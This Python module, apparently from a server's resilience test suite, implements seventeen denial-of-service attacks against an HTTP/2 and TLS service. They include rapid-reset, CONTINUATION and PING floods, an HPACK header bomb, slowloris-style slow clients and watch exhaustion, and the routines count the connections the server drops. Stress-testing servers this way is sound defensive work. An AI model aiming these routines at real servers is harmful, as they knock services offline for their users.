"""What hostile clients do to a member, each until it is stopped. Each runs in a process of its own.

An attack takes the member's ports (in the clear, under TLS), how large it should be, a function that says whether to
go on, and a counter of connections that the member ended.
"""

import os
import random
import select
import socket
import time

from wire import *


class Member:
    """The side that is attacked, as an attack sees it."""

    def __init__(self, port, tls_port, size, ended, stopping):
        self.port, self.tls_port, self.size = port, tls_port, size
        self._ended, self._stopping = ended, stopping

    @property
    def goes_on(self):
        return not self._stopping.is_set()

    def ended(self, count=1):
        with self._ended.get_lock():
            self._ended.value += count


def flood(member, make, chunk=1):
    """Sends what `make` makes of a counter over one connection after the other, without a pause."""
    while member.goes_on:
        try:
            connection = h2(member.port)
            count = 0
            while member.goes_on:
                connection.sendall(make(count))
                count += chunk
                # Answers are read and thrown away, so that only the flood itself can end it.
                while select.select([connection], [], [], 0)[0]:
                    if not connection.recv(1 << 16):
                        raise ConnectionError("ended")
        except OSError:
            member.ended()
            time.sleep(0.02)
        finally:
            connection.close()


def rapid_reset(member):
    def make(count):
        return b"".join(
            frame(HEADERS, 5, 1 + 2 * (count + n), RANGE) + frame(RST, 0, 1 + 2 * (count + n), b"\0\0\0\x08")
            for n in range(100))
    flood(member, make, 100)


def continuation_flood(member):
    flood(member, lambda count: (frame(HEADERS, 0, 1, RANGE) if count == 0 else b"") + frame(CONTINUATION, 0, 1, b"\0") * 8)


def settings_flood(member):
    burst = settings((4, 65_535)) * 50
    flood(member, lambda count: burst)


def ping_flood(member):
    burst = frame(PING, 0, 0, bytes(8)) * 200
    flood(member, lambda count: burst)


def empty_frames(member):
    burst = frame(DATA, 0, 1) * 200
    flood(member, lambda count: (frame(HEADERS, 4, 1, WATCH) if count == 0 else b"") + burst)


def priority_flood(member):
    burst = b"".join(frame(PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in range(1, 401, 2))
    flood(member, lambda count: burst)


def header_bomb(member):
    """Four kilobytes in the table, then thousands of one-byte references to them."""
    bomb = RANGE + b"\x40" + literal("x") + literal(b"a" * 3_900) + b"\xbe" * 12_000
    flood(member, lambda count: frame(HEADERS, 5, 1 + 2 * count, bomb))


def stream_abuse(member):
    """Even, old, idle and closed streams, frames of wrong length, and noise."""
    noise = random.Random(1)
    kinds = [
        lambda: frame(HEADERS, 5, 2, RANGE), lambda: frame(HEADERS, 5, 9, RANGE) + frame(HEADERS, 5, 3, RANGE),
        lambda: frame(DATA, 1, 77, b"x"), lambda: frame(WINDOW, 0, 0, b"\0\0\0"),
        lambda: frame(HEADERS, 5, 0x7FFFFFFF, RANGE) + frame(HEADERS, 5, 1, RANGE),
        lambda: noise.randbytes(500), lambda: frame(noise.randrange(12), noise.randrange(256), 1, noise.randbytes(40)),
    ]
    flood(member, lambda count: kinds[noise.randrange(len(kinds))]())


def unfinished_messages(member):
    """Requests of nearly two megabytes, one stream after the other, none of which ends."""
    body = [frame(DATA, 0, 0, b"\0\0\x1d\0\0" + bytes(16_000))] + [frame(DATA, 0, 0, bytes(16_384))] * 60

    def make(count):
        stream = (1 + 2 * count).to_bytes(4, "big")
        return frame(HEADERS, 4, 1 + 2 * count, PUT) + b"".join(part[:5] + stream + part[9:] for part in body)
    flood(member, make)


def hold(member, connections, act=lambda connection: None, pause=1.0):
    """Keeps connections open, does something to each now and then, and counts those that the member ends."""
    opened = [connection for connection in connections if connection is not None]
    while member.goes_on:
        for connection in list(opened):
            if not member.goes_on:
                break
            try:
                act(connection)
                if select.select([connection], [], [], 0)[0] and not connection.recv(1):
                    raise ConnectionError("ended")
            except (BlockingIOError, socket.timeout):
                pass
            except (OSError, ValueError):
                opened.remove(connection)
                connection.close()
                member.ended()
        time.sleep(pause)


def attempt(make):
    try:
        return make()
    except OSError:
        return None


def closed_window(member):
    """Asks for everything on many streams, gives no window, and then opens it byte by byte."""
    def make():
        connection = h2(member.port, (4, 0))
        connection.sendall(b"".join(call(1 + 2 * n, RANGE, RANGE_ALL) for n in range(50)))
        connection.settimeout(0.05)
        return connection
    hold(member, [attempt(make) for _ in range(member.size)],
         lambda connection: connection.sendall(b"".join(window(1 + 2 * n, 1) for n in range(50))), 0.2)


def slow_reader(member):
    """Asks for everything on many streams with every window open, and reads a byte a second."""
    def make():
        connection = h2(member.port, (4, 0x7FFFFFFF), receive_buffer=4096)
        connection.sendall(window(0, 0x7FFF0000 - 65_535) + b"".join(call(1 + 2 * n, RANGE, RANGE_ALL) for n in range(50)))
        connection.settimeout(0.05)
        return connection
    hold(member, [attempt(make) for _ in range(member.size)])


def slow_writer(member):
    """Sends a request's message a byte at a time."""
    def make():
        connection = h2(member.port)
        connection.sendall(frame(HEADERS, 4, 1, PUT) + frame(DATA, 0, 1, b"\0\0\x01\0\0"))
        connection.settimeout(0.05)
        return connection
    hold(member, [attempt(make) for _ in range(member.size)],
         lambda connection: connection.sendall(frame(DATA, 0, 1, b"x")))


def slow_http1(member):
    """HTTP/1.1 heads that never end."""
    def make():
        connection = connect(member.port)
        connection.sendall(b"GET /health HTTP/1.1\r\n")
        connection.settimeout(0.05)
        return connection
    hold(member, [attempt(make) for _ in range(member.size)],
         lambda connection: connection.sendall(b"x-a: b\r\n"))


def half_open_tls(member):
    """Handshakes that stop after nothing, a few bytes, or a whole greeting."""
    hello = bytes.fromhex("16030100f4010000f00303") + os.urandom(32)

    def make(number):
        connection = connect(member.tls_port)
        connection.sendall([b"", hello[:7], hello][number % 3])
        connection.settimeout(0.05)
        return connection
    hold(member, [attempt(lambda: make(number)) for number in range(member.size)])


def idle_connections(member):
    """HTTP/2 connections that say hello and no more."""
    hold(member, [attempt(lambda: h2(member.port)) for _ in range(member.size)], pause=5)


def many_watches(member):
    """As many watches as asked for, a thousand a stream, ten thousand a connection, on keys that nobody writes."""
    connections = []
    number = 0
    while number < member.size and member.goes_on:
        connection = h2(member.port, (4, 0x7FFFFFFF))
        connection.sendall(window(0, 0x7FFF0000 - 65_535))
        for stream in range(1, 21, 2):
            connection.sendall(frame(HEADERS, 4, stream, WATCH))
            creations = [message(field(1, field(1, b"idle/%08d" % (number + n)))) for n in range(1_000)]
            number += 1_000
            for start in range(0, 1_000, 100):
                connection.sendall(frame(DATA, 0, stream, b"".join(creations[start:start + 100])))
            while select.select([connection], [], [], 0)[0] and connection.recv(1 << 16):
                pass
        connections.append(connection)
    while member.goes_on:
        for connection in connections:
            while select.select([connection], [], [], 0)[0] and connection.recv(1 << 16):
                pass
        time.sleep(0.2)


def unread_watches(member):
    """Watches everything that is written, and never reads a byte of it."""
    def make():
        connection = h2(member.port, (4, 0x7FFFFFFF), receive_buffer=4096)
        connection.sendall(window(0, 0x7FFF0000 - 65_535) + call(1, WATCH, WATCH_ALL, end=False))
        return connection
    connections = [attempt(make) for _ in range(member.size)]
    while member.goes_on:
        time.sleep(0.2)
    del connections


# Each with its size: connections, or watches.
ATTACKS = {
    "rapid-reset": (rapid_reset, 1), "continuation-flood": (continuation_flood, 1),
    "settings-flood": (settings_flood, 1), "ping-flood": (ping_flood, 1), "empty-frames": (empty_frames, 1),
    "priority-flood": (priority_flood, 1), "header-bomb": (header_bomb, 1), "stream-abuse": (stream_abuse, 1),
    "unfinished-messages": (unfinished_messages, 1), "closed-window": (closed_window, 20), "slow-reader": (slow_reader, 20), "slow-writer": (slow_writer, 500),
    "slow-http1": (slow_http1, 500), "half-open-tls": (half_open_tls, 2_000),
    "idle-connections": (idle_connections, 10_000), "many-watches": (many_watches, 100_000),
    "unread-watches": (unread_watches, 20),
}
